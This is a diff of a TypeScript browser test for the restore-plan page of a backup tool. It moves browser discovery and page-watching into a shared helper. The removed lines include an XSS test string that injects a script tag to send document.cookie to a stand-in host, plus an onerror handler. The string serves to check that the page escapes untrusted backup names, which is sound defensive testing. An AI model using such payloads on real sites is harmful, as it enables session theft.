@@ -1,4 +1,3 @@
-import { existsSync } from 'node:fs';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -7,11 +6,8 @@ import type { PlannedItem, RestorePlanResult } from '@lifeboat/core';
 import { type Browser, chromium } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { planPage } from './plan-page.ts';
+import { browserPath, hostile, watchedPage } from './testing/watched-page.ts';
 
-const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path));
-if (!executablePath) console.warn('The page of a plan is not looked at: there is no chromium (apt-get install chromium)');
-
-const hostile = '</summary><script>fetch("https://example.com/?" + document.cookie)</script><img src=x onerror=alert(1)>';
 const item = (action: PlannedItem['action'], name: string, more: Partial<PlannedItem> = {}): PlannedItem => ({
   groupResource: 'configmaps',
   namespace: 'shop',
@@ -44,7 +40,7 @@ const result: RestorePlanResult = {
   issues: [],
 };
 
-describe.skipIf(!executablePath)('the page of a plan in a browser', () => {
+describe.skipIf(!browserPath)('the page of a plan in a browser', () => {
   let browser: Browser;
   let folder: string;
   beforeAll(async () => {
@@ -52,7 +48,7 @@ describe.skipIf(!executablePath)('the page of a plan in a browser', () => {
     const page = planPage({ backup: `nightly ${hostile}`, madeAt: new Date('2026-11-30T12:00:00Z') });
     const rows = items.map((each, index) => page.item(each, { isFirst: index === 0 }));
     await writeFile(join(folder, 'plan.html'), [page.start, ...rows, page.end(result, { isEmpty: false })].join(''));
-    browser = await chromium.launch({ executablePath: executablePath ?? '', args: ['--no-sandbox'], timeout: 120_000 });
+    browser = await chromium.launch({ executablePath: browserPath ?? '', args: ['--no-sandbox'], timeout: 120_000 });
   }, 150_000);
   afterAll(async () => {
     await browser?.close();
@@ -65,13 +61,7 @@ describe.skipIf(!executablePath)('the page of a plan in a browser', () => {
   ] as const)(
     'is searched and filtered, runs nothing of the backup and asks nobody (%s)',
     async (colorScheme, viewport) => {
-      const page = await browser.newPage({ colorScheme, viewport });
-      page.setDefaultTimeout(60_000);
-      const told: string[] = [];
-      page.on('console', (message) => void told.push(`${message.type()}: ${message.text()}`));
-      page.on('pageerror', (error) => void told.push(`error: ${error.message}`));
-      page.on('dialog', (dialog) => void dialog.dismiss().then(() => told.push('a dialog')));
-      page.on('request', (request) => void (/^(file|data):/.test(request.url()) || told.push(`request: ${request.url()}`)));
+      const { page, told } = await watchedPage(browser, { colorScheme, viewport });
       await page.goto(pathToFileURL(join(folder, 'plan.html')).href);
       const shown = () => page.locator('.row:visible').count();
       expect(await shown()).toBe(items.length);
